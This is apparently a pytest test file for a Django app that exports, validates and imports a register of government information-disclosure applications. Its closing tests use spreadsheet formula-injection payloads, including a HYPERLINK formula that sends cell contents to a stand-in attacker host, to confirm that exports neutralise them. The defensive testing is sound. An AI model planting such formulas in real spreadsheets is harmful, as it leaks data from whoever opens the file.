"""The register (台账): export, then a dry run that names every bad row, then the import."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime
from typing import Any
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse

from gongkai.applications import register, services, stats
from gongkai.applications.models import Application, CaseEvent, ImportBatch
from gongkai.applications.tests import factories
from gongkai.orgs.models import Role

TODAY = date(2026, 3, 31)
# The pages check the rows against today (a row dated 2027 is refused as in the future).
pytestmark = [
    pytest.mark.django_db,
    pytest.mark.time_machine(datetime(2026, 3, 31, 10, 0, tzinfo=ZoneInfo("Asia/Shanghai"))),
]

CSV = """收到日期,申请渠道,申请人类型,申请人,证件类型,证件号码,联系电话,申请内容,办理结果,答复日期,送达日期,送达方式
2025-03-03,信函（签收）,自然人,甲,护照,E1,13800000138,文件一,予以公开,2025-03-20,2025-03-21,邮政企业邮寄送达
2025年3月4日,当面提交,商业企业,乙公司,统一社会信用代码,91350100M000100Y43,13900000139,文件二,,,,
2025-03-05,飞鸽传书,自然人,丙,居民身份证,110105194912310021,13700000137,文件三,,,,
2025-13-01,网上申请,自然人,丁,护照,E4,13600000136,文件四,,,,
2025-03-06,网上申请,自然人,戊,护照,E5,13500000135,文件五,部分批准,2025-03-10,,
2025-03-07,网上申请,自然人,己,护照,E6,,文件六,予以公开,2025-03-01,,
2025-03-03,信函（签收）,自然人,甲,护照,E1,13800000138,文件一,,,,
2027-01-01,网上申请,自然人,庚,护照,E7,13400000134,文件七,,,,
"""


def _batch(agency: Any, content: bytes, name: str = "台账.csv") -> ImportBatch:
    return ImportBatch.objects.create(agency=agency, filename=name, content=content)


def test_dry_run_lists_every_rejected_row_and_why() -> None:
    agency = factories.agency()
    batch = _batch(agency, CSV.encode("gbk"))
    rows = register.dry_run(batch, TODAY)
    assert batch.total == 8 and [r.number for r in rows if not r.errors] == [2, 3]
    reasons = {r["row"]: " ".join(r["errors"]) for r in batch.rejected}
    assert "申请渠道“飞鸽传书”不在可选范围内" in reasons[4] and "校验位不正确" in reasons[4]
    assert "不是有效日期" in reasons[5]
    assert "不在年度报告表三的分类中" in reasons[6]
    assert "“联系电话”为空" in reasons[7] and "答复日期早于收到日期" in reasons[7]
    assert "与本文件中前面的一行重复" in reasons[8]
    assert "不能晚于今天" in reasons[9]
    assert Application.objects.count() == 0  # a dry run writes no case


def test_the_register_has_the_limits_of_the_application_forms() -> None:
    """A register row is refused for what the forms refuse (core.contact), with the same words."""
    heading = "收到日期,申请渠道,申请人类型,申请人,证件类型,证件号码,联系电话,申请内容"
    lines = [
        "2025-03-03,网上申请,自然人,甲,护照,E1,abc,文件一",
        "2025-03-03,网上申请,自然人,乙,护照,E2,138,文件二",
        '2025-03-03,网上申请,自然人,丙,护照,E3,"13800000000，0379-1234567",文件三',
        f"2025-03-03,网上申请,自然人,{'丁' * 101},护照,E4,010-12345678-123,文件四",
        f"2025-03-03,网上申请,自然人,戊,护照,E5,0571-88888888,{'某' * 10_001}",
        "2025-03-03,网上申请,自然人,己,护照,E6,+86 138 0000 0000,文件六",
    ]
    batch = _batch(factories.agency(), "\n".join([heading, *lines]).encode())
    rows = register.dry_run(batch, TODAY)
    assert [r.number for r in rows if not r.errors] == [7]
    reasons = {r["row"]: " ".join(r["errors"]) for r in batch.rejected}
    assert "联系电话格式不正确" in reasons[2] and "联系电话格式不正确" in reasons[3]
    assert "请只填写一个电话号码" in reasons[4]
    assert "姓名或名称最多100个字（现有101个字）" in reasons[5]
    assert "所需信息的描述最多10000个字（现有10001个字）" in reasons[6]


def test_import_then_reimport_is_refused_as_duplicates() -> None:
    agency = factories.agency()
    user = factories.staff(agency, Role.HEAD)
    assert register.import_batch(_batch(agency, CSV.encode("utf-8-sig")), user, TODAY) == 2
    closed = Application.objects.get(description="文件一")
    assert (closed.outcome, closed.served_on, closed.status) == (
        "granted",
        date(2025, 3, 21),
        "closed",
    )
    assert closed.events.filter(action=CaseEvent.IMPORTED, actor=user).exists()
    assert (
        stats.table_three(Application.objects.all(), 2025)["applications.granted.natural_person"]
        == 1
    )
    again = _batch(agency, CSV.encode())
    register.dry_run(again, TODAY)
    assert all("重复导入" in " ".join(r["errors"]) for r in again.rejected if r["row"] in (2, 3))


def test_export_reads_back_as_a_register() -> None:
    agency = factories.agency()
    handler = factories.staff(agency)
    case = factories.case(agency, date(2025, 9, 26), on=TODAY)
    services.decide(
        case, handler, on=date(2025, 10, 20), outcome="withheld.process_info", today_=TODAY
    )
    content = register.export(Application.objects.all())
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    header, row = [c.value for c in sheet[1]], [c.value for c in sheet[2]]
    assert header[:3] == ["跟踪码", "收到日期", "申请渠道"]
    assert row[0] == case.tracking_code and row[10] == "不予公开：属于四类过程性信息"
    batch = _batch(factories.agency(), content, "台账.xlsx")
    register.dry_run(batch, TODAY)
    assert "已存在（重复导入）" in batch.rejected[0]["errors"][-1]


@pytest.mark.time_machine(datetime(2035, 12, 6, 10, 0, tzinfo=ZoneInfo("Asia/Shanghai")))
def test_export_says_which_due_dates_are_predicted() -> None:
    agency = factories.agency()
    predicted = factories.case(agency, date(2035, 12, 6))
    sheet = openpyxl.load_workbook(io.BytesIO(register.export(Application.objects.all()))).active
    rows = {
        row[0]: dict(zip(register.COLUMNS, row, strict=True))
        for row in sheet.iter_rows(min_row=2, values_only=True)
    }
    row = rows[predicted.tracking_code]
    assert row["答复期限"] == predicted.due_date.isoformat()
    assert row["答复期限说明"].startswith("预测：该日期按预测的2036年节假日安排计算")


@pytest.mark.parametrize(
    ("content", "name", "message"),
    [
        (b"", "x.csv", "没有数据"),
        (b"a,b\n1,2\n", "x.csv", "缺少必需的列"),
        (b"PK\x03\x04junk", "x.xlsx", "已损坏"),
        (b"\xff\xfe\x00garbage\x81", "x.csv", "编码无法识别"),
    ],
)
def test_unreadable_registers(content: bytes, name: str, message: str) -> None:
    with pytest.raises(register.RegisterError, match=message):
        register.read_rows(content, name)


def test_import_pages(client: Client) -> None:
    agency = factories.agency()
    head = factories.staff(agency, Role.HEAD)
    client.force_login(head)
    from django.core.files.uploadedfile import SimpleUploadedFile

    response = client.post(
        reverse("office:register_import"),
        {"agency": agency.pk, "file": SimpleUploadedFile("台账.csv", CSV.encode())},
    )
    page = response.content.decode()
    assert (
        "可以导入 <strong>2</strong> 行，不能导入 <strong>6</strong> 行" in page
        and "第 4 行" in page
    )
    batch = ImportBatch.objects.get()
    assert (
        client.post(reverse("office:register_confirm", args=[batch.pk]), follow=True).status_code
        == 200
    )
    assert Application.objects.count() == 2
    handler_only = factories.staff(agency, Role.HANDLER)
    client.force_login(handler_only)
    assert client.get(reverse("office:register_import")).status_code == 403
    export = client.get(reverse("office:register_export"))
    assert export.status_code == 200 and export.content[:2] == b"PK"


# An application filed anonymously online whose fields are spreadsheet formulas (issue 14).
HOSTILE = {
    "申请人": '=HYPERLINK("http://evil.invalid/?x="&A1,"click")',
    "联系电话": "+8613800000000",  # a valid phone, and formula-like (it starts with +)
    "申请内容": "@SUM(1+1) 以及 -2+3 号文件",
}


def _file_hostile_application(agency: Any) -> Application:
    response = Client().post(
        reverse("portal:apply"),
        {
            "applicant-kind": "natural_person",
            "applicant-name": HOSTILE["申请人"],
            "applicant-id_type": "resident_id",
            "applicant-id_number": "11010519491231002X",
            "applicant-phone": HOSTILE["联系电话"],
            "case-agency": agency.pk,
            "case-description": HOSTILE["申请内容"],
            "case-confirm": "on",
        },
    )
    assert response.status_code == 302, response.content.decode()
    return Application.objects.select_related("applicant").get()


def _export(agency: Any, fmt: str = "") -> bytes:
    client = Client()
    client.force_login(factories.staff(agency, Role.HANDLER))
    response = client.get(reverse("office:register_export"), {"format": fmt} if fmt else {})
    assert response.status_code == 200
    return response.content


def _reimport(agency: Any, content: bytes, name: str) -> Application:
    """Removes the case and imports the exported register in its place."""
    for case in Application.objects.select_related("applicant"):
        case.delete()
        case.applicant.delete()
    head = factories.staff(agency, Role.HEAD)
    assert register.import_batch(_batch(agency, content, name), head, TODAY) == 1
    return Application.objects.select_related("applicant").get()


def test_formulas_filed_online_are_text_cells_in_the_xlsx_export() -> None:
    agency = factories.agency()
    case = _file_hostile_application(agency)
    assert (case.applicant.name, case.applicant.phone) == (
        HOSTILE["申请人"],
        HOSTILE["联系电话"],
    )
    content = _export(agency)
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/")]
        xml = b"".join(package.read(n) for n in sheets).decode()
    assert "<f>" not in xml and "<f " not in xml and "evil.invalid" in xml
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    header = [c.value for c in sheet[1]]
    row = dict(zip(header, sheet[2], strict=True))
    for column, payload in HOSTILE.items():
        assert row[column].data_type == "s" and row[column].value == payload
    again = _reimport(agency, content, "台账.xlsx")
    assert (again.applicant.name, again.applicant.phone, again.description) == tuple(
        HOSTILE.values()
    )


def test_formulas_filed_online_are_quoted_in_the_csv_export_and_read_back() -> None:
    agency = factories.agency()
    _file_hostile_application(agency)
    content = _export(agency, "csv")
    lines = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    row = dict(zip(lines[0], lines[1], strict=True))
    for column, payload in HOSTILE.items():
        assert row[column] == "'" + payload
    assert row["收到日期"] == "2026-03-31" and row["申请渠道"] == "网上申请"
    again = _reimport(agency, content, "台账.csv")
    assert (again.applicant.name, again.applicant.phone, again.description) == tuple(
        HOSTILE.values()
    )
